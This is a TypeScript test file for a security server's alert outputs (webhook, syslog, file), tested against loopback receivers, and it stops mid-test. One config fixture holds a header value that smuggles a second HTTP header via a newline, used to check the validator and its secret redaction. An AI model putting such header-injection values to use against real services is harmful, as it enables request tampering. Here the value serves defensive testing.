/**
 * The server's alert outputs against real receivers started here on loopback: an HTTP server, a
 * UDP socket, TCP and TLS servers (certificates from the server's own PKI code), and files.
 * Every wire format is parsed back independently of the code that wrote it.
 */
import assert from 'node:assert/strict';
import { webcrypto } from 'node:crypto';
import dgram from 'node:dgram';
import { EventEmitter } from 'node:events';
import { execFileSync } from 'node:child_process';
import { closeSync, constants, openSync, readFileSync, writeFileSync, existsSync } from 'node:fs';
import http from 'node:http';
import https from 'node:https';
import net from 'node:net';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import tls from 'node:tls';
import { type TSchema } from '@sinclair/typebox';
import { ALERT_SEVERITIES, AlertOutputsConfig, checkAlertOutputs } from '../../src/common/config/alert-outputs.js';
import { parseConfig, parseRoleConfig } from '../../src/common/config/index.js';
import { HadesError } from '../../src/common/errors.js';
import { SEVERITIES } from '../../src/rules/index.js';
import { chatText, createAlertOutputs, type AlertOutputs } from '../../src/server/alerts/outputs/index.js';
import { backoffDelay, OutputQueue } from '../../src/server/alerts/outputs/queue.js';
import { ResendBuffer } from '../../src/server/alerts/outputs/resend.js';
import { formatSyslog, SyslogTransport } from '../../src/server/alerts/outputs/syslog.js';
import { procEnd, unacknowledgedBytes, unacknowledgedIn } from '../../src/server/alerts/outputs/tcp-acks.js';
import { checkAlertOutputFiles, queuedAlert, scopeOf } from '../../src/server/alerts/outputs/transport.js';
import type { Alert } from '../../src/server/alerts/types.js';
import { Pki, x509 } from '../../src/server/pki.js';
import { HadesServer } from '../../src/server/server.js';
import { projectRoot } from '../helpers/generated-docs.js';
import { closeAll, create, LogSink, logger, makeAlert, outputsConfig, quick, retryYaml, sleep, statsOf, tempDir, waitFor, Wrapper } from '../helpers/alert-outputs.js';

// --- helpers -------------------------------------------------------------------------------

/** A reader of octet-counted syslog frames that pushes the id of each alert into `into`. */
function frames(into: string[]): (chunk: Buffer) => void {
  let buffer = Buffer.alloc(0);
  return (chunk: Buffer) => {
    buffer = Buffer.concat([buffer, chunk]);
    for (let space = buffer.indexOf(0x20); space > 0; space = buffer.indexOf(0x20)) {
      const length = Number(buffer.subarray(0, space).toString('latin1'));
      if (buffer.length < space + 1 + length) break;
      into.push(JSON.parse(parseSyslog(buffer.subarray(space + 1, space + 1 + length).toString('utf8')).msg).id as string);
      buffer = buffer.subarray(space + 1 + length);
    }
  };
}


async function freePort(): Promise<number> {
  const server = net.createServer();
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const port = (server.address() as net.AddressInfo).port;
  await new Promise((resolve) => server.close(resolve));
  return port;
}

/** An HTTP receiver that records requests and answers from a list of statuses (then 200), or never. */
class HttpReceiver {
  readonly requests: { url: string; headers: http.IncomingHttpHeaders; body: string }[] = [];
  statuses: number[] = [];
  hang = false;
  private readonly server = http.createServer((req, res) => {
    let body = '';
    req.setEncoding('utf8');
    req.on('data', (chunk: string) => (body += chunk));
    req.on('end', () => {
      this.requests.push({ url: req.url ?? '', headers: req.headers, body });
      if (this.hang) return;
      const status = this.statuses.shift() ?? 200;
      res.writeHead(status, { 'content-type': 'text/plain' }).end(status === 200 ? 'ok' : `status ${status}\nfrom receiver`);
    });
  });

  async start(port = 0): Promise<string> {
    await new Promise<void>((resolve) => this.server.listen(port, '127.0.0.1', resolve));
    return `http://127.0.0.1:${(this.server.address() as net.AddressInfo).port}`;
  }

  async close(): Promise<void> {
    this.server.closeAllConnections();
    await new Promise((resolve) => this.server.close(resolve));
  }
}

/** A syslog receiver over TCP or TLS that splits octet-counted frames and checks every count. */
class StreamReceiver {
  readonly messages: string[] = [];
  readonly frameErrors: string[] = [];
  readonly peers: (tls.PeerCertificate | undefined)[] = [];
  private readonly sockets = new Set<net.Socket>();
  private readonly server: net.Server;

  constructor(tlsOptions?: tls.TlsOptions) {
    const onSocket = (socket: net.Socket): void => {
      this.sockets.add(socket);
      socket.on('close', () => this.sockets.delete(socket));
      socket.on('error', () => socket.destroy());
      if (socket instanceof tls.TLSSocket) this.peers.push(socket.getPeerCertificate());
      let buffer = Buffer.alloc(0);
      socket.on('data', (chunk: Buffer) => {
        buffer = Buffer.concat([buffer, chunk]);
        for (;;) {
          const space = buffer.indexOf(0x20);
          if (space < 0) break;
          const prefix = buffer.subarray(0, space).toString('latin1');
          if (!/^[1-9]\d{0,8}$/.test(prefix)) {
            this.frameErrors.push(`bad MSG-LEN ${JSON.stringify(prefix)}`);
            socket.destroy();
            return;
          }
          const length = Number(prefix);
          if (buffer.length < space + 1 + length) break;
          this.messages.push(buffer.subarray(space + 1, space + 1 + length).toString('utf8'));
          buffer = buffer.subarray(space + 1 + length);
        }
      });
    };
    this.server = tlsOptions ? tls.createServer(tlsOptions, onSocket) : net.createServer(onSocket);
  }

  async start(port = 0): Promise<number> {
    await new Promise<void>((resolve, reject) => this.server.once('error', reject).listen(port, '127.0.0.1', resolve));
    return (this.server.address() as net.AddressInfo).port;
  }

  /** Drops the open connections, as a receiver that restarts does. */
  dropConnections(): void {
    for (const socket of this.sockets) socket.destroy();
  }

  async close(): Promise<void> {
    this.dropConnections();
    await new Promise((resolve) => this.server.close(resolve));
  }
}

interface ParsedSyslog {
  pri: number;
  version: string;
  timestamp: string;
  hostname: string;
  appName: string;
  procId: string;
  msgId: string;
  sd: Record<string, Record<string, string>>;
  msg: string;
}

/** An RFC 5424 parser written from the RFC's ABNF, independent of the formatter under test. */
function parseSyslog(line: string): ParsedSyslog {
  const head = /^<(\d{1,3})>(\d) (\S+) (\S+) (\S+) (\S+) (\S+) /.exec(line);
  assert.ok(head, `not an RFC 5424 header: ${line.slice(0, 120)}`);
  let i = head[0].length;
  const sd: Record<string, Record<string, string>> = {};
  if (line[i] === '-') i++;
  else {
    while (line[i] === '[') {
      i++;
      let id = '';
      while (line[i] !== ' ' && line[i] !== ']') id += line[i++];
      const params: Record<string, string> = {};
      while (line[i] === ' ') {
        i++;
        let name = '';
        while (line[i] !== '=') name += line[i++];
        assert.equal(line.slice(i, i + 2), '="', `PARAM-VALUE of ${name} must be quoted`);
        i += 2;
        let value = '';
        for (;;) {
          const c = line[i++];
          assert.ok(c !== undefined, 'unterminated PARAM-VALUE');
          if (c === '\\' && (line[i] === '"' || line[i] === '\\' || line[i] === ']')) value += line[i++];
          else if (c === '"') break;
          else {
            assert.ok(c !== ']', `unescaped ] in PARAM-VALUE of ${name}`);
            value += c;
          }
        }
        params[name] = value;
      }
      assert.equal(line[i], ']');
      i++;
      sd[id] = params;
    }
  }
  assert.equal(line[i], ' ', 'MSG must follow a space');
  return {
    pri: Number(head[1]),
    version: head[2]!,
    timestamp: head[3]!,
    hostname: head[4]!,
    appName: head[5]!,
    procId: head[6]!,
    msgId: head[7]!,
    sd,
    msg: line.slice(i + 1),
  };
}

/** Resource kinds Node holds open (sockets, timers, ...), counted. */
function resources(): Record<string, number> {
  const counts: Record<string, number> = {};
  for (const r of process.getActiveResourcesInfo()) counts[r] = (counts[r] ?? 0) + 1;
  return counts;
}

async function csrAndKey(name: string): Promise<{ csrPem: string; keyPem: string }> {
  const keys = await webcrypto.subtle.generateKey({ name: 'ECDSA', namedCurve: 'P-256' }, true, ['sign', 'verify']);
  const csr = await x509.Pkcs10CertificateRequestGenerator.create({ name: `CN=${name}`, keys, signingAlgorithm: { name: 'ECDSA', hash: 'SHA-256' } }, webcrypto);
  const der = Buffer.from(await webcrypto.subtle.exportKey('pkcs8', keys.privateKey));
  return { csrPem: csr.toString('pem'), keyPem: `-----BEGIN PRIVATE KEY-----\n${der.toString('base64').replace(/(.{64})/g, '$1\n').replace(/\n$/, '')}\n-----END PRIVATE KEY-----\n` };
}

/** Two certificate authorities, from the server's own PKI code: the receivers' and a stranger. */
let pki: Pki;
let otherCaFile = '';
let clientCertFile = '';
let clientKeyFile = '';
before(async () => {
    pki = await Pki.open(tempDir(), { hostnames: [], ips: [] });
    const other = await Pki.open(tempDir(), { hostnames: [], ips: [] });
    otherCaFile = other.paths.caCert;
    const dir = tempDir();
    const { csrPem, keyPem } = await csrAndKey('hades-server');
    const issued = await pki.signAgentCsr(csrPem, 'ag_alerts');
    clientCertFile = path.join(dir, 'client.pem');
    clientKeyFile = path.join(dir, 'client.key');
    writeFileSync(clientCertFile, issued.certPem);
    writeFileSync(clientKeyFile, keyPem, { mode: 0o600 });
});

after(async () => {
  await closeAll();
  // Every receiver is closed by now: a socket still open is one an output forgot (a half-open
  // connection its receiver ended), which would keep a server's process alive after its close.
  const until = performance.now() + 3_000;
  while ((resources()['TCPSocketWrap'] ?? 0) > 0 && performance.now() < until) await new Promise((resolve) => setTimeout(resolve, 20));
  assert.equal(resources()['TCPSocketWrap'] ?? 0, 0, `sockets left open: ${JSON.stringify(resources())}`);
});

// --- configuration -------------------------------------------------------------------------

describe('alert outputs: configuration', () => {
  it('fills every default and freezes the result', () => {
    const [webhook, syslog, file] = outputsConfig(`
alerts:
  outputs:
    - { name: chat, type: webhook, webhook: { url: "https://chat.example.org/hooks/x" } }
    - { name: siem, type: syslog, syslog: { host: siem.example.org } }
    - { name: archive, type: file, file: { path: /var/log/hades/alerts.ndjson } }
`);
    assert.deepEqual(webhook, {
      name: 'chat',
      type: 'webhook',
      min_severity: 'info',
      queue: 1000,
      queue_mb: 64,
      retry: { max_attempts: 5, backoff_ms: 500, backoff_max_ms: 60_000 },
      webhook: {
        url: 'https://chat.example.org/hooks/x',
        format: 'json',
        chat_dialect: 'slack',
        link_base_url: null,
        headers: {},
        timeout_ms: 10_000,
        tls: { ca_file: null, cert_file: null, key_file: null, insecure: false },
      },
    });
    assert.deepEqual(syslog?.syslog, {
      host: 'siem.example.org',
      transport: 'tls',
      port: null,
      facility: 'local0',
      app_name: 'hades',
      hostname: null,
      max_message_bytes: 8192,
      timeout_ms: 10_000,
      tls: { ca_file: null, cert_file: null, key_file: null, insecure: false },
    });
    assert.deepEqual(file?.file, { path: '/var/log/hades/alerts.ndjson', max_mb: 100, keep: 5 });
    assert.ok(Object.isFrozen(webhook?.webhook?.headers));
    assert.deepEqual(outputsConfig(''), []);
  });

  it('reports bad outputs with codes and positions: unknown type, missing host, bad URL, unknown key', () => {
    const result = parseConfig(
      `alerts:
  outputs:
    - name: a
      type: email
    - name: b
      type: syslog
      syslog: { transport: udp }
    - name: c
      type: webhook
      webhook: { url: "ftp://files.example.org/x" }
    - name: d
      type: webhook
      webhook: { url: "https://x.example.org", headers: { "Bad Header": v }, timeout: 5 }
    - name: Bad Name
      type: file
      min_severity: urgent
      file: { path: relative.ndjson }
`,
      Wrapper,
    );
    assert.equal(result.ok, false);
    assert.match(result.ok ? '' : (result.problems.find((p) => p.path.endsWith('Bad Header'))?.message ?? ''), /^'Bad Header' is not a valid name under 'alerts\.outputs\.3\.webhook\.headers': a name here matches /);
    const problems = result.ok ? [] : result.problems.map((p) => ({ code: p.code, path: p.path, line: p.line, suggestion: p.suggestion }));
    assert.deepEqual(problems, [
      { code: 'HADES_ERR_CONFIG_VALUE', path: 'alerts.outputs.0.type', line: 4, suggestion: undefined },
      { code: 'HADES_ERR_CONFIG_MISSING_KEY', path: 'alerts.outputs.1.syslog.host', line: 7, suggestion: undefined },
      { code: 'HADES_ERR_CONFIG_VALUE', path: 'alerts.outputs.2.webhook.url', line: 10, suggestion: undefined },
      // Not an unknown key: a name of the wrong form (a header name holds no space).
      { code: 'HADES_ERR_CONFIG_VALUE', path: 'alerts.outputs.3.webhook.headers.Bad Header', line: 13, suggestion: undefined },
      { code: 'HADES_ERR_CONFIG_UNKNOWN_KEY', path: 'alerts.outputs.3.webhook.timeout', line: 13, suggestion: 'timeout_ms' },
      { code: 'HADES_ERR_CONFIG_VALUE', path: 'alerts.outputs.4.name', line: 14, suggestion: undefined },
      { code: 'HADES_ERR_CONFIG_VALUE', path: 'alerts.outputs.4.min_severity', line: 16, suggestion: undefined },
      { code: 'HADES_ERR_CONFIG_VALUE', path: 'alerts.outputs.4.file.path', line: 17, suggestion: undefined },
    ]);
    const messages = result.ok ? '' : result.problems.map((p) => p.message).join('\n');
    assert.match(messages, /'alerts\.outputs\.0\.type' must be one of "webhook", "syslog", "file" \(got "email"\)/);
    assert.match(messages, /an http:\/\/ or https:\/\/ URL/);
  });

  it('checks what the schema cannot, with HADES_ERR_ALERT_OUTPUT_CONFIG, and createAlertOutputs refuses it', () => {
    const config = outputsConfig(`
alerts:
  outputs:
    - { name: a, type: syslog, webhook: { url: "https://x.example.org" } }
    - { name: a, type: webhook, webhook: { url: "https://exa mple.org/SECRET-TOKEN" } }
    - { name: c, type: webhook, webhook: { url: "http://x.example.org", headers: { Content-Length: "1", X-Token: "SECRET-VALUE\\nX-Injected: 1" }, tls: { ca_file: /etc/ca.pem } } }
    - { name: d, type: syslog, syslog: { host: h, transport: tcp, tls: { cert_file: /etc/c.pem } } }
    - { name: e, type: file, file: { path: /tmp/x }, retry: { backoff_ms: 1000, backoff_max_ms: 10 } }
    - { name: f, type: file, file: { path: /tmp/./x } }
    - { name: g, type: syslog, syslog: { host: "[::1]:514" } }
    - { name: h, type: syslog, syslog: { host: "[fe80::1]" } }
`);
    const problems = checkAlertOutputs(config);
    assert.ok(problems.every((p) => p.code === 'HADES_ERR_ALERT_OUTPUT_CONFIG'));
    assert.deepEqual(
      problems.map((p) => p.path),
      [
        'alerts.outputs.0.syslog',
        'alerts.outputs.0.webhook',
        'alerts.outputs.1.name',
        'alerts.outputs.1.webhook.url',
        'alerts.outputs.2.webhook.headers.Content-Length',
        'alerts.outputs.2.webhook.headers.X-Token',
        'alerts.outputs.2.webhook.tls',
        'alerts.outputs.3.syslog.tls',
        'alerts.outputs.3.syslog.tls',
        'alerts.outputs.4.retry.backoff_max_ms',
        'alerts.outputs.5.file.path',
        'alerts.outputs.6.syslog.host',
        'alerts.outputs.7.syslog.host',
      ],
    );
    assert.deepEqual(problems.slice(-3).map((p) => p.message), [
      "output 'f': the file is written by output 'e' already",
      "output 'g': host '[::1]:514' is written as in a URL; write host: \"::1\" and port: 514",
      "output 'h': host '[fe80::1]' is written as in a URL; write host: \"fe80::1\"",
    ]);
    try {
      createAlertOutputs(config, logger());
      assert.fail('accepted');
    } catch (e) {
      assert.ok(e instanceof HadesError);
      assert.equal(e.code, 'HADES_ERR_CONFIG_INVALID');
      assert.match(e.message, /HADES_ERR_ALERT_OUTPUT_CONFIG: output 'a': the URL does not parse/);
      // A webhook URL is a secret: it is never repeated in a message.
      assert.ok(!e.message.includes('SECRET-TOKEN'));
      assert.ok(!e.message.includes('SECRET-VALUE'));
    }
  });

  it('repeats no part of a webhook URL or a header value in the problems the schema finds', () => {
    // A scheme mistyped, a token given as a number: the message quoted the first 37 characters,
    // here most of a Mattermost hook's key, in `hades config check` and the server's log.
    const result = parseRoleConfig(
      `alerts:
  outputs:
    - { name: a, type: webhook, webhook: { url: "https//mm.io/hooks/k4e8qz1w9x7c3v5b6n2m0a8s7d" } }
    - { name: b, type: webhook, webhook: { url: "https://x.example.org/", headers: { Authorization: 918273645546372819 } } }
`,
      'server',
    );
    assert.ok(!result.ok);
    assert.deepEqual(
      result.problems.map((p) => [p.code, p.path, p.line]),
      [
        ['HADES_ERR_CONFIG_VALUE', 'alerts.outputs.0.webhook.url', 3],
        ['HADES_ERR_CONFIG_TYPE', 'alerts.outputs.1.webhook.headers.Authorization', 4],
      ],
    );
    const text = JSON.stringify(result.problems);
    for (const secret of ['k4e8qz', '9182736']) assert.ok(!text.includes(secret), `a problem repeats ${secret}: ${text}`);
    assert.match(result.problems[1]!.message, /must be a string \(got a number\)/);
  });

  it('refuses at creation a TLS file that cannot be read, with HADES_ERR_ALERT_OUTPUT_TLS', () => {
    const config = outputsConfig(`
alerts:
  outputs:
    - { name: s, type: syslog, syslog: { host: 127.0.0.1, tls: { ca_file: /nonexistent/ca.pem } } }
`);
    assert.throws(() => createAlertOutputs(config, logger()), (e: unknown) => e instanceof HadesError && e.code === 'HADES_ERR_ALERT_OUTPUT_TLS' && /ENOENT/.test(e.message));
  });

  it('refuses at creation TLS files that TLS cannot use, naming the output and the file', () => {
    const dir = tempDir();
    const garbage = path.join(dir, 'garbage.pem');
    writeFileSync(garbage, 'not a pem\n');
    const refused = (tlsYaml: string, pattern: RegExp) => {
      const config = outputsConfig(`alerts: { outputs: [ { name: s, type: syslog, syslog: { host: 127.0.0.1, tls: { ${tlsYaml} } } } ] }`);
      assert.throws(() => createAlertOutputs(config, logger()), (e: unknown) => e instanceof HadesError && e.code === 'HADES_ERR_ALERT_OUTPUT_TLS' && pattern.test(e.message), tlsYaml);
    };
    refused(`ca_file: ${garbage}`, new RegExp(`output 's': ${garbage} holds no PEM certificate`));
    refused(`ca_file: ${pki.paths.caCert}, cert_file: ${garbage}, key_file: ${clientKeyFile}`, new RegExp(`output 's': ${garbage} is not a PEM certificate`));
    refused(`cert_file: ${clientCertFile}, key_file: ${garbage}`, new RegExp(`output 's': ${garbage} is not a PEM private key`));
    // The server's own key is a good key, but not the client certificate's.
    const otherKey = path.join(dir, 'other.key');
    writeFileSync(otherKey, pki.serverKeyPem);
    refused(`cert_file: ${clientCertFile}, key_file: ${otherKey}`, new RegExp(`output 's': ${otherKey} is not the key of ${clientCertFile}`));
    // And the same for a webhook.
    const webhook = outputsConfig(`alerts: { outputs: [ { name: w, type: webhook, webhook: { url: "https://127.0.0.1:1/", tls: { ca_file: ${garbage} } } } ] }`);
    assert.throws(() => createAlertOutputs(webhook, logger()), (e: unknown) => e instanceof HadesError && e.code === 'HADES_ERR_ALERT_OUTPUT_TLS' && e.message.includes(`output 'w': ${garbage} holds no PEM certificate`));
  });

  it('reports unusable TLS files with their positions when the files are checked, and only then', () => {
    const dir = tempDir();
    const garbage = path.join(dir, 'garbage.pem');
    writeFileSync(garbage, 'not a pem\n');
    const yaml = `alerts:
  outputs:
    - name: d
      type: syslog
      syslog: { transport: tls, host: localhost, tls: { ca_file: /nonexistent/ca.pem } }
    - name: h
      type: webhook
      webhook: { url: "https://127.0.0.1:37699/", tls: { ca_file: ${pki.paths.caCert}, cert_file: ${garbage}, key_file: ${clientKeyFile} } }
    - name: plain
      type: webhook
      webhook: { url: "http://127.0.0.1:37699/" }
`;
    // A command that reads the configuration for an address does not read the files.
    assert.equal(parseRoleConfig(yaml, 'server').ok, true);
    const result = parseRoleConfig(yaml, 'server', [{ reads: ['alerts.outputs'], check: (config) => checkAlertOutputFiles(config.alerts.outputs) }]);
    assert.equal(result.ok, false);
    const lines = yaml.split('\n');
    const columnOf = (line: number, text: string) => lines[line - 1]!.indexOf(text) + 1;
    assert.deepEqual(
      (result.ok ? [] : result.problems).map((p) => [p.code, p.path, p.line, p.column, p.message]),
      [
        ['HADES_ERR_ALERT_OUTPUT_TLS', 'alerts.outputs.0.syslog.tls.ca_file', 5, columnOf(5, '/nonexistent/ca.pem'), "output 'd': cannot read /nonexistent/ca.pem: ENOENT"],
        ['HADES_ERR_ALERT_OUTPUT_TLS', 'alerts.outputs.1.webhook.tls.cert_file', 8, columnOf(8, garbage), `output 'h': ${garbage} is not a PEM certificate: error:0480006C:PEM routines::no start line`],
      ],
    );
  });

  it('refuses a server whose alert outputs cannot work before it makes its data folder', async () => {
    const dataDir = path.join(tempDir(), 'data');
    const parsed = parseRoleConfig(`data_dir: ${dataDir}\nlisten: { api: "127.0.0.1:0", agents: "127.0.0.1:0" }\nalerts: { outputs: [ { name: d, type: syslog, syslog: { host: localhost, tls: { ca_file: /nonexistent/ca.pem } } } ] }\n`, 'server');
    if (!parsed.ok) assert.fail(JSON.stringify(parsed.problems));
    const server = new HadesServer({ config: parsed.config, version: 'x', stderr: new LogSink() });
    await assert.rejects(server.start(), (e: unknown) => e instanceof HadesError && e.code === 'HADES_ERR_ALERT_OUTPUT_TLS');
    assert.equal(existsSync(dataDir), false);
  });

  it('knows the rule engine\'s severities, and docs/alert-outputs.md names every key', () => {
    assert.deepEqual([...ALERT_SEVERITIES], [...SEVERITIES]);
    const doc = readFileSync(path.join(projectRoot, 'docs/alert-outputs.md'), 'utf8');
    const keys = new Set<string>();
    const walk = (schema: TSchema): void => {
      const s = schema as { properties?: Record<string, TSchema>; items?: TSchema; anyOf?: TSchema[] };
      for (const [key, child] of Object.entries(s.properties ?? {})) {
        keys.add(key);
        walk(child);
      }
      if (s.items) walk(s.items);
      for (const option of s.anyOf ?? []) walk(option);
    };
    walk(AlertOutputsConfig);
    for (const key of keys) assert.ok(doc.includes(`\`${key}\``), `docs/alert-outputs.md does not describe \`${key}\``);
    for (const code of ['CONFIG', 'REFUSED', 'UNREACHABLE', 'TIMEOUT', 'BAD_STATUS', 'TLS', 'WRITE', 'DROPPED']) assert.ok(doc.includes(`HADES_ERR_ALERT_OUTPUT_${code}`), code);
  });

  it('backs off exponentially with jitter, up to the cap', () => {
    assert.equal(backoffDelay(1, 100, 10_000, () => 0), 50);
    assert.equal(backoffDelay(1, 100, 10_000, () => 0.999_999), 100);
    assert.equal(backoffDelay(4, 100, 10_000, () => 0.5), 600);
    assert.equal(backoffDelay(60, 100, 10_000, () => 1), 10_000);
  });
});

// --- webhook -------------------------------------------------------------------------------

describe('alert outputs: the queue', () => {
  it('holds at most queue_mb of alerts: past it the oldest waiting go, counted; one larger alert is held alone', async () => {
    const delivered: string[] = [];
    let started = 0;
    let release: () => void = () => undefined;
    const transport = {
      target: 'test',
      truncated: 0,
      // The receiver hangs on the first alert until released, so that the others wait.
      deliver: (item: { json: string }) =>
        new Promise<void>((resolve) => {
          started++;
          release = () => {
            delivered.push(item.json);
            resolve();
          };
        }),
      close: () => Promise.resolve(),
    };
    const sink = new LogSink();
    const queue = new OutputQueue(transport, { name: 'q', capacity: 1000, maxBytes: 1000, maxAttempts: 3, backoffMs: 10, backoffMaxMs: 10, log: logger(sink) });
    const item = (tag: string, chars: number) => ({ ...queuedAlert(makeAlert()), json: tag.padEnd(chars, '.'), bytes: chars });
    // The first is being delivered; 300 + 300 + 300 wait; a fourth of 300 pushes the oldest out.
    for (const tag of ['a', 'b', 'c', 'd', 'e']) queue.push(item(tag, 300));
    assert.equal(queue.counters.dropped, 1);
    assert.equal(queue.queued, 4);
    assert.ok(sink.lines().some((l) => l.code === 'HADES_ERR_ALERT_OUTPUT_DROPPED' && l.capacity_mb === 0));
    // Larger than the bound: everything waiting goes, it is held alone.
    queue.push(item('f', 5000));
    assert.equal(queue.counters.dropped, 4);
    assert.equal(queue.queued, 2);
    queue.push(item('g', 10));
    assert.equal(queue.counters.dropped, 5, 'past the bound again: the large one goes');
    release();
    await waitFor('the second delivery to start', () => started === 2);
    release();
    await waitFor('the second delivery', () => delivered.length === 2);
    assert.deepEqual(delivered.map((json) => json[0]), ['a', 'g']);
    assert.equal(queue.queued, 0);
    await queue.close();
  });
  it('keeps of a queued alert its JSON and a few short fields, nothing of the alert itself', () => {
    const alert = makeAlert({ events: Array.from({ length: 5 }, (_, i) => ({ process: { args: [`${'x'.repeat(10_000)}${i}`] } })) });
    const item = queuedAlert(alert);
    assert.equal(item.json, JSON.stringify(alert));
    assert.equal(item.bytes, item.json.length);
    assert.deepEqual(item.head, { id: alert.id, '@timestamp': alert['@timestamp'], count: 1, rule: { id: alert.rule.id, severity: 'critical' }, host: alert.host });
    // None of the alert's objects is reachable from it, and besides the JSON it keeps a few short strings.
    const objects = (root: unknown): Set<object> => {
      const seen = new Set<object>();
      const walk = (value: unknown): void => {
        if (value === null || typeof value !== 'object' || seen.has(value)) return;
        seen.add(value);
        for (const child of Object.values(value)) walk(child);
      };
      walk(root);
      return seen;
    };
    const ofAlert = objects(alert);
    assert.ok([...objects(item)].every((o) => !ofAlert.has(o)), 'an object of the alert is kept');
    assert.ok(JSON.stringify(item.head).length < 300);
    const wide = makeAlert({ message: '日本' });
    assert.equal(queuedAlert(wide).bytes, 2 * JSON.stringify(wide).length, 'V8 keeps it two bytes a character');
  });

  it('counts against queue_mb the memory an alert\'s JSON takes: two bytes a character when one is beyond U+00FF', async () => {
    // A receiver that refuses: the first alert is being delivered, the others wait.
    const port = await freePort();
    const outputs = create(`alerts: { outputs: [ { name: w, type: webhook, queue_mb: 1, retry: { max_attempts: 0, backoff_ms: 60000, backoff_max_ms: 60000 }, webhook: { url: "http://127.0.0.1:${port}/in" } } ] }`);
    // 300,000 characters each, which V8 keeps as 600 kB: one waits within 1 MiB, not two.
    const wide = () => makeAlert({ message: `日${'x'.repeat(300_000)}` });
    for (let i = 0; i < 4; i++) outputs.send(wide());
    assert.deepEqual({ queued: statsOf(outputs, 'w').queued, dropped: statsOf(outputs, 'w').dropped }, { queued: 2, dropped: 2 });
    // Latin-1 only: one byte a character, three wait.
    const narrow = create(`alerts: { outputs: [ { name: w, type: webhook, queue_mb: 1, retry: { max_attempts: 0, backoff_ms: 60000, backoff_max_ms: 60000 }, webhook: { url: "http://127.0.0.1:${port}/in" } } ] }`);
    for (let i = 0; i < 4; i++) narrow.send(makeAlert({ message: `é${'x'.repeat(300_000)}` }));
    assert.deepEqual({ queued: statsOf(narrow, 'w').queued, dropped: statsOf(narrow, 'w').dropped }, { queued: 4, dropped: 0 });
  });
});

describe('alert outputs: the resend buffer of syslog over TCP and TLS', () => {
  it('releases alerts by their end offsets as acknowledged bytes grow, bounds them, and writes them again in order after a dead connection', () => {
    const buffer = new ResendBuffer<string>(3, 100);
    const bytes = (n: number) => Buffer.alloc(n, 0x61);
    const write = (item: string, size: number, complete = true): number => {
      const end = buffer.reserve(size);
      assert.ok(buffer.hold(item, bytes(size), end));
      if (complete) buffer.completed(end);
      return end;
    };
    assert.ok(buffer.hasRoom(1000), 'an empty buffer takes any one alert');
    assert.equal(write('a', 10), 10);
    assert.equal(write('b', 20), 30);
    assert.equal(write('c', 30, false), 60, 'its write has not completed: not in the kernel yet');
    assert.deepEqual({ size: buffer.size, bytes: buffer.bytes, base: buffer.base }, { size: 3, bytes: 60, base: 30 });
    assert.equal(buffer.hasRoom(1), false, 'three alerts at most');
    const connection = buffer.generation;
    // Read with 30 bytes in the kernel: 25 not acknowledged, 5 acknowledged, no alert whole.
    assert.deepEqual(buffer.acknowledge(connection, 30, 25), { released: 0, progress: true });
    assert.deepEqual(buffer.acknowledge(connection, 30, 25), { released: 0, progress: false }, 'the same count is no progress');
    // Under TLS the kernel counts record overhead too: more unacknowledged than written is no progress.
    assert.deepEqual(buffer.acknowledge(connection, 30, 40), { released: 0, progress: false });
    assert.deepEqual(buffer.acknowledge(connection, 30, 20), { released: 1, progress: true }, 'a ends at 10');
    assert.deepEqual({ size: buffer.size, bytes: buffer.bytes }, { size: 2, bytes: 50 });
    assert.ok(buffer.hasRoom(50));
    assert.equal(buffer.hasRoom(51), false, '100 bytes at most');
    // The connection dies: b, the oldest unacknowledged, is charged; both are written again from offset 0.
    assert.equal(buffer.restart(2), undefined);
    assert.notEqual(buffer.generation, connection);
    assert.deepEqual(buffer.acknowledge(connection, 60, 0), { released: 0, progress: false }, 'a reading of the dead connection is ignored');
    assert.equal(buffer.pending, 2);
    assert.deepEqual(buffer.unwritten().map((e) => [e.item, e.end, e.failures]), [['b', undefined, 1], ['c', undefined, 0]]);
    const [b, c] = buffer.unwritten();
    assert.equal(buffer.rewrite(b!), 20);
    assert.equal(buffer.rewrite(c!), 50);
    assert.deepEqual({ pending: buffer.pending, sends: [b!.sends, c!.sends] }, { pending: 0, sends: [2, 2] });
    buffer.completed(50);
    assert.equal(write('d', 5), 55);
    // All acknowledged: everything goes, and an alert written before a reading that already covers it is not held.
    assert.deepEqual(buffer.acknowledge(buffer.generation, 55, 0), { released: 3, progress: true });
    assert.equal(buffer.hold('late', bytes(5), 55), false);
    assert.deepEqual({ size: buffer.size, bytes: buffer.bytes }, { size: 0, bytes: 0 });
    // The oldest alert on two dead connections in a row is given up (max_attempts 2); the next one is not charged.
    write('e', 10);
    write('f', 10);
    assert.equal(buffer.restart(2), undefined);
    for (const entry of buffer.unwritten()) buffer.completed(buffer.rewrite(entry));
    assert.equal(buffer.restart(2)?.item, 'e');
    assert.deepEqual(buffer.unwritten().map((e) => [e.item, e.failures]), [['f', 0]]);
    assert.equal(buffer.restart(0), undefined, 'f was not written on that connection: not charged');
    assert.equal(buffer.unwritten()[0]!.failures, 0);
    assert.equal(buffer.clear(), 1);
  });

  it('stays right across the compactions of its storage over many alerts', () => {
    const buffer = new ResendBuffer<number>(10_000, 1 << 30);
    for (let i = 0; i < 50_000; i++) {
      const end = buffer.reserve(10);
      buffer.hold(i, Buffer.alloc(10), end);
      buffer.completed(end);
      if (i % 100 === 99) assert.equal(buffer.acknowledge(buffer.generation, buffer.base, 0).released, 100);
    }
    assert.equal(buffer.size, 0);
  });
});

describe('alert outputs: webhook', () => {
  const receiver = new HttpReceiver();
  let base = '';
  before(async () => {
    base = await receiver.start();
  });
  after(() => receiver.close());

  it('POSTs the alert document as JSON with the configured headers, and logs no secret', async () => {
    receiver.requests.length = 0;
    const sink = new LogSink();
    const outputs = create(
      `alerts:
  outputs:
    - name: soc
      type: webhook
      ${retryYaml}
      webhook:
        url: "${base}/hooks/SECRETPATH123"
        headers: { Authorization: "Bearer TOPSECRET", X-Tenant: "ALSOSECRET" }
`,
      logger(sink),
    );
    receiver.statuses = [500];
    const alert = makeAlert({ message: 'non-ASCII: é 漢字 😀' });
    outputs.send(alert);
    await waitFor('delivery', () => statsOf(outputs, 'soc').sent === 1);
    assert.equal(receiver.requests.length, 2);
    const request = receiver.requests[1]!;
    assert.equal(request.url, '/hooks/SECRETPATH123');
    assert.equal(request.headers['content-type'], 'application/json');
    assert.equal(request.headers['authorization'], 'Bearer TOPSECRET');
    assert.equal(request.headers['x-tenant'], 'ALSOSECRET');
    assert.equal(request.body, JSON.stringify(alert));
    assert.deepEqual(JSON.parse(request.body), alert);
    const stats = statsOf(outputs, 'soc');
